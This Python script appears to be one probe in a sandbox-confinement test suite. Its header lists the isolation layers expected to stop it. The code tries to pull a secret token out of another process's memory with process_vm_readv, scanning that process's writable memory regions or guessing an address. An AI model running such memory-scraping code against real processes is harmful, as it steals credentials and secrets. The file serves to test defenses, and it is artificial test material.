# goal: read the memory of the tool without opening any file: process_vm_readv
# success: prints TOKEN
# held_by: calls:tracing + own_uid + read_only_mounts + landlock_files + landlock_network + landlock_scope
import ctypes
import json
import re


class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


libc = ctypes.CDLL(None, use_errno=True)
tool = json.load(open("target.json"))["tool"]


def read(start, length):
    buffer = ctypes.create_string_buffer(length)
    here, there = Part(ctypes.addressof(buffer), length), Part(start, length)
    got = libc.process_vm_readv(tool, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    if got < 0:
        print("errno", ctypes.get_errno())
    return buffer.raw[: max(got, 0)]


# A process that was forked from the same interpreter has the same layout; this one has not, so its maps are asked
# first. Where those are closed too, one guess at an address tells what the call answers.
try:
    lines = open(f"/proc/{tool}/maps").read().splitlines()
except OSError as error:
    print(error)
    lines = []
    read(0x400000, 64)
for line in lines:
    if " rw-p " not in line:
        continue
    start, end = (int(part, 16) for part in line.split()[0].split("-"))
    found = re.search(rb"memory-[0-9a-f]{24}", read(start, min(end - start, 64 << 20)))
    if found:
        print(found[0].decode())
        break
